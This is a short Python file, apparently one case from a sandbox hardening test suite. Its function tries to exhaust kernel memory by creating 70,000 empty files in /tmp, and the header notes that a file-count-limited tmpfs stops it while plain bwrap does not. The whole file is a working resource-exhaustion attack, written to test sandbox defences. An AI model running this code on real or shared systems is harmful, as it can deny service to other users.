"""Makes empty files without end: they cost the kernel's memory, and no size limit counts them.

stopped_by: a tmpfs with a limited number of files
plain bwrap: succeeds
how: executed
"""

import os


def attack():
    made = 0
    try:
        for number in range(70_000):
            os.mknod(f"/tmp/{number}")
            made += 1
    except OSError:
        pass
    return float(made >= 70_000)
